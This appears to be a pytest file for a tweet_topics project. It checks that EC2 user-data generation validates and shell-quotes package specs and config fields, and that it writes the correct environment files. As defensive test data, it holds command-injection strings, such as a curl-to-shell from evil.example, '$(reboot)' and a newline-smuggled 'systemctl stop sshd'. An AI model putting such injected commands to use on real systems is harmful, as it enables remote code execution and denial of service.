"""Safe user-data: the package spec is validated and shell-quoted before any AWS call, the environment file carries
every setting the streamer reads, and a wheel-only install renders user-data from its own package data."""

from __future__ import annotations

import shutil
import subprocess
import sys
import sysconfig
import venv
from pathlib import Path

import pytest

from tweet_topics.defs.infra.deployment import Deployment
from tweet_topics.defs.infra.jobs import provision_infra
from tweet_topics.defs.infra.userdata import UnsafePackageSpec, environment, install_commands, render_user_data
from tweet_topics.settings import Settings, load_settings
from tweet_topics_tests.defs.infra.helpers import CANARY, make_infra, run

ROOT = Path(__file__).resolve().parents[3]
SHA = "0" * 63 + "1"
INJECTIONS = [
    "tweet_topics'; curl https://evil.example/x | sh; echo '",
    "tweet_topics\nreboot",
    "$(reboot)",
    "tweet_topics @ https://example.com/tweet_topics-0.1.0-py3-none-any.whl",  # no sha256
    "http://example.com/tweet_topics-0.1.0-py3-none-any.whl#sha256=" + SHA,  # not https
    "https://example.com/x.sh#sha256=" + SHA,  # not a wheel or sdist
    "git+https://example.com/tweet_topics.git",
]


@pytest.mark.parametrize("spec", INJECTIONS)
def test_an_unsafe_package_spec_is_refused(spec):
    with pytest.raises(UnsafePackageSpec):
        install_commands(spec)


def test_an_injection_in_run_config_fails_before_any_aws_call(resources):
    infra = make_infra(resources)
    d, s3 = infra.deployment, resources["aws"].client("s3")
    roles_before = [r["RoleName"] for r in resources["aws"].client("iam").list_roles()["Roles"]]
    buckets_before = [b["Name"] for b in s3.list_buckets()["Buckets"]]
    config = {"resources": {"infra": {"config": {"create_instance": True, "streamer_package": INJECTIONS[0]}}}}
    result = run(provision_infra, {**resources, "infra": infra}, config, raise_on_error=False)
    assert not result.success
    assert "streamer_package" in "".join(str(e.event_specific_data) for e in result.all_events if e.is_failure)
    assert [b["Name"] for b in s3.list_buckets()["Buckets"]] == buckets_before
    assert [r["RoleName"] for r in resources["aws"].client("iam").list_roles()["Roles"]] == roles_before
    assert d.firehose_stream not in resources["aws"].client("firehose").list_delivery_streams()["DeliveryStreamNames"]


def test_create_instance_requires_a_package_spec(resources):
    with pytest.raises(Exception, match="streamer_package is required"):
        make_infra(resources, create_instance=True)
    with pytest.raises(Exception, match="streamer_package is required when create_live_instance"):
        make_infra(resources, create_live_instance=True)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("live_checkpoint", "s3a://bucket/live/checkpoint/; curl evil|sh"),
        ("live_checkpoint", "file:///var/lib/tweet-topics-live/checkpoint"),
        ("live_checkpoint", "s3a://bucket/live/checkpoint/\n"),
        ("live_instance_type", "m6i.large\nsystemctl stop sshd"),
    ],
)
def test_live_host_knobs_that_would_reach_the_shell_or_lose_the_checkpoint_are_refused(resources, field, value):
    with pytest.raises(Exception) as info:
        make_infra(resources, create_live_instance=True, streamer_package="tweet_topics==0.1.0", **{field: value})
    assert field in str(info.value)


def test_the_live_hosts_environment_file_loads_as_the_live_settings(resources):
    """What user-data writes to /etc/tweet-topics/live.env is read back by the project's own settings loader: the
    same bucket and prefixes as provisioning, the Firehose buffer (the query's lookback) and the checkpoint."""
    settings = Settings(env="prod", bucket="team-bucket", live_prefix="tt/live/", raw_prefix="tt/raw/")
    checkpoint = "s3a://team-bucket/tt/live/checkpoint/"
    infra = make_infra(
        resources,
        settings=settings,
        token=CANARY,
        create_live_instance=True,
        streamer_package="tweet_topics==0.1.0",
        live_checkpoint=checkpoint,
        buffer_interval_s=30,
    )
    user_data = infra.live_user_data() or ""
    env_file = user_data.split("cat > /etc/tweet-topics/live.env <<'ENV'\n")[1].split("\nENV\n")[0]
    environ = dict(line.split("=", 1) for line in env_file.splitlines())
    loaded = load_settings(environ)
    assert (loaded.env, loaded.bucket) == ("prod", "team-bucket")
    assert (loaded.live_prefix, loaded.raw_prefix) == ("tt/live/", "tt/raw/")
    assert loaded.live_checkpoint == checkpoint and loaded.firehose_buffer_seconds == 30
    assert environ["SPARK_DRIVER_MEMORY"] == "4g" and "TWEET_TOPICS_X_BEARER_PARAMETER" not in environ
    assert environ["PYSPARK_PYTHON"] + " -m tweet_topics live" in user_data, "workers run the unit's interpreter"
    assert "User=tweet-topics-live" in user_data and "useradd --system --create-home tweet-topics-live" in user_data
    assert "{{" not in user_data and CANARY not in user_data
    assert infra.user_data() is None, "no streamer instance asked for: no streamer user-data"


def test_pinned_artifacts_are_downloaded_hash_checked_and_quoted():
    url = "https://example.com/dl/tweet_topics-0.1.0-py3-none-any.whl"
    lines = install_commands(f"tweet_topics @ {url}#sha256={SHA}").splitlines()
    assert lines[0].endswith(f"-o /tmp/tweet_topics-0.1.0-py3-none-any.whl {url}") and "--proto =https" in lines[0]
    assert lines[1] == f"echo '{SHA}  /tmp/tweet_topics-0.1.0-py3-none-any.whl' | sha256sum --check --strict -"
    assert lines[2] == "/opt/tweet-topics/venv/bin/pip install --quiet /tmp/tweet_topics-0.1.0-py3-none-any.whl"
    marker = install_commands('tweet_topics==0.1.0; python_version >= "3.11"')
    assert (
        marker == """/opt/tweet-topics/venv/bin/pip install --quiet 'tweet_topics==0.1.0; python_version >= "3.11"'"""
    )


def test_the_environment_file_carries_every_setting_the_streamer_reads(resources):
    settings = Settings(env="prod", bucket="team-bucket", streamer_prefix="tt/streamer/", raw_prefix="tt/raw/")
    infra = make_infra(
        resources, settings=settings, token=CANARY, create_instance=True, streamer_package="tweet_topics==0.1.0"
    )
    user_data = infra.user_data() or ""
    env = environment(infra.deployment)
    prefixes = {f"TWEET_TOPICS_{name.upper()}" for name in Settings.model_fields if name.endswith("_prefix")}
    assert prefixes <= set(env) and env["TWEET_TOPICS_STREAMER_PREFIX"] == "tt/streamer/"
    for key in ("ENV", "PROJECT", "REGION", "BUCKET", "FIREHOSE_STREAM", "X_BEARER_PARAMETER"):
        assert f"TWEET_TOPICS_{key}=" in user_data
    assert "TWEET_TOPICS_STREAMER_PREFIX=tt/streamer/\n" in user_data
    assert "cat > /etc/tweet-topics/streamer.env <<'ENV'" in user_data, "quoted heredoc: no expansion"
    assert "{{" not in user_data and CANARY not in user_data and "authorized_keys" not in user_data


def test_a_wheel_only_install_renders_user_data_from_its_package_data(tmp_path):
    """Build the wheel from a copy of the sources, pip install --no-deps it into a fresh venv, render there."""
    src = tmp_path / "src"
    src.mkdir()
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(ROOT / name, src / name)
    shutil.copytree(ROOT / "tweet_topics", src / "tweet_topics", ignore=shutil.ignore_patterns("__pycache__"))
    dist = tmp_path / "dist"
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q", "-w", str(dist), str(src)],
        check=True,
        cwd=tmp_path,
    )
    wheel = next(dist.glob("tweet_topics-*.whl"))
    fresh = tmp_path / "fresh"
    venv.create(fresh, with_pip=True)
    python = fresh / "bin" / "python"
    subprocess.run([python, "-m", "pip", "install", "-q", "--no-deps", str(wheel)], check=True, cwd=tmp_path)
    script = (
        "import tweet_topics, sys\n"
        "from tweet_topics.defs.infra.deployment import Deployment\n"
        "from tweet_topics.defs.infra.userdata import render_user_data\n"
        "from tweet_topics.settings import Settings\n"
        "d = Deployment.from_settings(Settings(env='prod', bucket='team-bucket'))\n"
        "print(tweet_topics.__file__)\n"
        "sys.stdout.write(render_user_data(d, 'tweet_topics==0.1.0'))\n"
    )
    # The project's dependencies come from the test venv's site-packages (on PYTHONPATH, so its editable
    # tweet_topics finder is not loaded): tweet_topics itself is the wheel's.
    deps = sysconfig.get_paths()["purelib"]
    out = subprocess.run(
        [python, "-c", script], check=True, cwd=tmp_path, capture_output=True, text=True, env={"PYTHONPATH": deps}
    ).stdout
    location, rendered = out.split("\n", 1)
    assert location.startswith(str(fresh)), location
    expected = render_user_data(
        Deployment.from_settings(Settings(env="prod", bucket="team-bucket")), "tweet_topics==0.1.0"
    )
    assert rendered == expected
    assert "ExecStart=/opt/tweet-topics/venv/bin/python -m tweet_topics stream x --sink firehose" in rendered
